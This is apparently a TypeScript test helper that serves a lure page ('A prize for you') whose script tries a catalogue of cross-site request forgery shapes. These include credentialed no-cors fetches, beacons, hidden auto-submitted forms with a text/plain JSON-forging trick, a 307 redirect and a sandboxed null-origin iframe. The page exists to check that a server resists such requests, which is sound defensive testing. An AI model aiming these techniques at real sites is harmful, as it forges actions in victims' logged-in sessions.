import { once } from 'node:events';
import { createServer, type Server } from 'node:http';

/** One request that a page of another origin tries. */
export type Attempt = { shape: string; method: string; url: string; body: string };

/** The shapes in which a page can send something to another origin, without or with a preflight. */
export const shapes = [
  'fetch-text',
  'fetch-no-type',
  'fetch-form',
  'fetch-multipart',
  'fetch-json',
  'fetch-octets',
  'beacon',
  'form-urlencoded',
  'form-text',
  'form-multipart',
  'redirect-307',
  'sandboxed',
];

/** Serves a page on loopback, and a redirect by which a request gets another path than the one it was sent to. */
export async function serveForeignPage(): Promise<{ server: Server; port: number }> {
  const server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url!, 'http://localhost');
    if (pathname === '/redirect') {
      response
        .writeHead(307, { location: searchParams.get('to')!, 'access-control-allow-origin': '*' })
        .end();
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html' }).end(page);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { server, port: (server.address() as { port: number }).port };
}

const page = `<!doctype html><title>A prize for you</title><body><script>
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const types = { 'fetch-text': 'text/plain', 'fetch-form': 'application/x-www-form-urlencoded', 'fetch-multipart': 'multipart/form-data; boundary=x' };
function form(attempt, enctype) {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { action: attempt.url, method: 'POST', enctype, target: frame.name });
  const field = document.createElement('input');
  // As text the form's body is name=value: the classic way to make it JSON.
  const at = attempt.body.indexOf('}');
  field.name = enctype === 'text/plain' && at > 0 ? attempt.body.slice(0, -1) + ',"x":"' : 'file';
  field.value = enctype === 'text/plain' && at > 0 ? '"}' : attempt.body;
  form.append(field);
  document.body.append(form);
  const done = new Promise((resolve) => { frame.onload = resolve; });
  form.submit();
  return Promise.race([done, wait(3000)]).then(() => { frame.remove(); form.remove(); });
}
const sandbox = (attempt) => {
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts';
  frame.srcdoc = '<script>fetch(' + JSON.stringify(attempt.url) + ', { method: "POST", mode: "no-cors", credentials: "include", body: ' + JSON.stringify(attempt.body) + ' }).finally(() => parent.postMessage("done", "*"))<' + '/script>';
  const done = new Promise((resolve) => addEventListener('message', resolve, { once: true }));
  document.body.append(frame);
  return Promise.race([done, wait(2000)]).then(() => frame.remove());
};
async function attack(attempt) {
  const simple = attempt.method === 'POST';
  const base = { method: attempt.method, credentials: 'include', mode: simple ? 'no-cors' : 'cors', body: attempt.body };
  switch (attempt.shape) {
    case 'beacon': return void navigator.sendBeacon(attempt.url, attempt.body);
    case 'form-urlencoded': return form(attempt, 'application/x-www-form-urlencoded');
    case 'form-text': return form(attempt, 'text/plain');
    case 'form-multipart': return form(attempt, 'multipart/form-data');
    case 'redirect-307': return fetch('/redirect?to=' + encodeURIComponent(attempt.url), { ...base, headers: { 'content-type': 'text/plain' } });
    case 'sandboxed': return sandbox(attempt);
    case 'fetch-no-type': return fetch(attempt.url, { ...base, body: new Blob([attempt.body]) });
    case 'fetch-json': return fetch(attempt.url, { ...base, mode: 'cors', headers: { 'content-type': 'application/json' } });
    case 'fetch-octets': return fetch(attempt.url, { ...base, mode: 'cors', headers: { 'content-type': 'application/octet-stream' } });
    default: return fetch(attempt.url, { ...base, headers: { 'content-type': types[attempt.shape] } });
  }
}
window.attackAll = async (attempts) => {
  const queue = [...attempts];
  const worker = async () => {
    for (let next = queue.shift(); next; next = queue.shift()) await Promise.resolve(attack(next)).catch(() => {});
  };
  await Promise.all(Array.from({ length: 8 }, worker));
};
</script>`;
